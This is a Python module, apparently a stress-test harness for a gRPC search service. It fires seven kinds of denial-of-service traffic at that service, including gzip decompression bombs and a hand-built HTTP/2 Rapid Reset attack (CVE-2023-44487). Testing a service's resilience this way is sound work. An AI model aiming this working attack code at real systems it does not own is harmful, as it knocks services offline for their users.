"""Callers that take more than their share, one function for each attack.

Each runs for some seconds, at its own rate.
"""

from __future__ import annotations

import asyncio
import struct
import uuid
from collections import Counter
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass, field
from random import Random
from typing import Any

import grpc
from grpc import aio

from aisle.v1.catalog_pb2 import GetProductRequest, Price, Product, UpsertProductsRequest
from aisle.v1.catalog_pb2_grpc import CatalogServiceStub
from aisle.v1.events_pb2 import EventProduct, RecordEventsRequest, UserEvent
from aisle.v1.events_pb2_grpc import EventServiceStub
from aisle.v1.search_pb2 import AnyOf, FacetRequest, Filter, SearchRequest
from aisle.v1.search_pb2_grpc import SearchServiceStub
from bench.pacing import at_random, paced

SEARCH = "/aisle.v1.SearchService/Search"
# Calls a second
_OVERLOAD = 300.0
_DEAR = 40.0
_WINDOWS = 40.0
_WAITS = 60.0
# Events of a call, calls a second
_EVENTS = 1_000
_FLOODS = 2.0
_BOMB_BYTES = 31 << 20
_BOMBS = 2.0
# Calls begun and reset at a time, about 2,000 a second
_RESETS = 20
_PAUSE_SECONDS = 0.01
_LONGEST_SECONDS = 30.0


@dataclass
class Caller:
    """The state of an attack."""

    channel: aio.Channel
    host: str
    port: int
    seconds: float
    queries: list[str]
    random: Random
    statuses: Counter[str] = field(default_factory=Counter)

    async def counted(self, answer: Awaitable[object]) -> None:
        """Wait for an answer, and count its status."""
        try:
            await answer
            self.statuses["OK"] += 1
        except aio.AioRpcError as error:
            self.statuses[error.code().name] += 1

    async def at_rate(self, rate: float, ask: Callable[[int], Awaitable[object]]) -> None:
        """Begin so many calls a second until the end."""
        await paced(at_random(rate, int(rate * self.seconds)), lambda number: self.counted(ask(number)))

    def query(self) -> str:
        return self.random.choice(self.queries)


async def overload(caller: Caller) -> None:
    """Several times the pages that two cores can make."""
    stub = SearchServiceStub(caller.channel)
    await caller.at_rate(_OVERLOAD, lambda _: stub.Search(SearchRequest(query=caller.query())))


async def dear_requests(caller: Caller) -> None:
    """The most expensive allowed requests, from callers who leave before the answer."""
    stub = SearchServiceStub(caller.channel)
    values = [[f"no brand {number} {place}" for place in range(20)] for number in range(100)]
    filters = [Filter(field="brands", negate=True, any_of=AnyOf(values=each)) for each in values]
    facets = [FacetRequest(field="categories", limit=250)] * 20

    def ask(_: int) -> Awaitable[object]:
        query = " ".join(caller.query() + "x" for _ in range(20))
        dear = SearchRequest(
            query=query, filters=filters, facets=facets, page_size=200, explain=True, deadline_ms=70
        )
        return stub.Search(dear)

    await caller.at_rate(_DEAR, ask)


async def waiting(caller: Caller) -> None:
    """Wait for positions that no write has, and for a write that is not shown yet."""
    search: Any = SearchServiceStub(caller.channel)
    catalog: Any = CatalogServiceStub(caller.channel)

    async def ask(number: int) -> object:
        if number % 2:
            return await search.Search(SearchRequest(wait_for_visible=1 << 62, deadline_ms=60_000))
        product = Product(
            product_id="waited-for",
            title="waited for",
            price=Price(amount=number + 1),
        )
        written = await catalog.UpsertProducts(iter([UpsertProductsRequest(product=product)]))
        return await catalog.GetProduct(
            GetProductRequest(product_id="waited-for", wait_for_visible=written.log_position)
        )

    await caller.at_rate(_WAITS, ask)


async def bombs(caller: Caller) -> None:
    """Messages of a few KiB that would become gigabytes."""
    send: Any = caller.channel.unary_unary("/aisle.v1.EventService/RecordEvents")
    empty_events = b"\x0a\x00" * (_BOMB_BYTES // 2)
    await caller.at_rate(_BOMBS, lambda _: send(empty_events, compression=grpc.Compression.Gzip))


async def floods_of_events(caller: Caller) -> None:
    """Batches of valid events of the largest allowed size."""
    stub = EventServiceStub(caller.channel)

    def ask(_: int) -> Awaitable[object]:
        events = [_event(caller.random) for _ in range(_EVENTS)]
        return stub.RecordEvents(RecordEventsRequest(events=events))

    await caller.at_rate(_FLOODS, ask)


def _event(random: Random) -> UserEvent:
    products = [EventProduct(product_id=f"product {random.randrange(10_000)}") for _ in range(5)]
    visitor_id = f"visitor {random.randrange(100_000)}"
    return UserEvent(
        event_id=str(uuid.uuid4()),
        action="click",
        visitor_id=visitor_id,
        products=products,
    )


async def filling_windows(caller: Caller) -> None:
    """Different searches, each of which leaves a ranked window in memory."""
    stub = SearchServiceStub(caller.channel)

    def ask(number: int) -> Awaitable[object]:
        query = f"{caller.query()} {number}"
        visitor_id = str(uuid.uuid4())
        return stub.Search(SearchRequest(query=query, visitor_id=visitor_id, page_size=1, explain=True))

    await caller.at_rate(_WINDOWS, ask)


async def rapid_resets(caller: Caller) -> None:
    """Calls that are reset at once (CVE-2023-44487), in handmade frames."""
    end = asyncio.get_running_loop().time() + caller.seconds
    while asyncio.get_running_loop().time() < end:
        try:
            await _reset_until(caller, end)
        except OSError:
            caller.statuses["connections closed"] += 1


async def _reset_until(caller: Caller, end: float) -> None:
    reader, writer = await asyncio.open_connection(caller.host.strip("[]"), caller.port)
    writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b""))
    listening = asyncio.create_task(reader.read(-1))
    try:
        for first in range(1, 40_000, 2 * _RESETS):
            if asyncio.get_running_loop().time() > end:
                return
            writer.write(b"".join(_begun_and_reset(first + 2 * place) for place in range(_RESETS)))
            await writer.drain()
            caller.statuses["reset"] += _RESETS
            await asyncio.sleep(_PAUSE_SECONDS)
    finally:
        listening.cancel()
        writer.close()


def _begun_and_reset(stream: int) -> bytes:
    message = SearchRequest(query="running shoes", explain=True, page_size=200).SerializeToString()
    headers = b"\x83\x86" + b"".join(
        b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
        for name, value in (
            (b":path", SEARCH.encode()),
            (b":authority", b"x"),
            (b"te", b"trailers"),
            (b"content-type", b"application/grpc"),
        )
    )
    body = b"\x00" + struct.pack(">I", len(message)) + message
    return (
        _frame(1, 4, stream, headers)
        + _frame(0, 1, stream, body)
        + _frame(3, 0, stream, struct.pack(">I", 8))
    )


def _frame(kind: int, flags: int, stream: int, content: bytes) -> bytes:
    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content


WAYS: Mapping[str, Callable[[Caller], Awaitable[None]]] = {
    "waiting": waiting,
    "dear requests": dear_requests,
    "bombs": bombs,
    "rapid resets": rapid_resets,
    "floods of events": floods_of_events,
    "filling windows": filling_windows,
    "overload": overload,
}
